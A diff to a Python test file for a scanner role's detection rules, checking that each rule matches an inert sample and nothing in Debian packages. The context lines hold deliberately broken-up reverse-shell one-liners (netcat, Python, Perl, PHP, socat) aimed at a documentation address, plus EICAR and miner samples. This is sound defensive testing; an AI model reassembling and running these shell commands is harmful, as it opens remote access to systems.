@@ -2,7 +2,7 @@
 # GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
 # SPDX-License-Identifier: GPL-3.0-or-later
 
-"""The rules that come with the role: each finds its inert sample, and none of them finds anything in Debian's packages."""
+"""The rules that come with the role: each finds its inert sample, and none finds anything in Debian's packages."""
 
 from __future__ import annotations
 
@@ -23,7 +23,7 @@ RULES = ROOT / "roles/scan/files/rules"
 LARGEST = 1 << 20
 ENOUGH = 400 << 20
 
-# Cut up by `~`, so that no scanner takes this file for what it is about. Addresses and names are those of documentation.
+# Cut up by `~`, so that no scanner takes this file for what it is about. Addresses and names are of documentation.
 KEY = "ssh-~ed25519 AAAA" + "C3NzaC1lZDI1NTE5" * 4
 SAMPLES = {
     "eicar_test_file": [eicar().decode(), eicar().decode() + "\r\n"],
@@ -35,7 +35,7 @@ SAMPLES = {
         "n~c -e /bin/~sh 192.0.2.1 4444",
         "s=socket.~socket(socket.AF_INET,socket.SOCK_STREAM);s.con~nect(('192.0.2.1',4444));os.du~p2(s.fileno(),0)",
         'perl -e \'use So~cket;$i="192.0.2.1";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));\'',
-        "php -r '$sock=fsock~open(\"192.0.2.1\",4444);ex~ec(\"sh <&3 >&3 2>&3\");'",
+        'php -r \'$sock=fsock~open("192.0.2.1",4444);ex~ec("sh <&3 >&3 2>&3");\'',
         "so~cat exec:'ba~sh -li',pty,stderr,setsid,sigint,sane tcp:192.0.2.1:4444",
     ],
     "crypto_miner_configuration": [
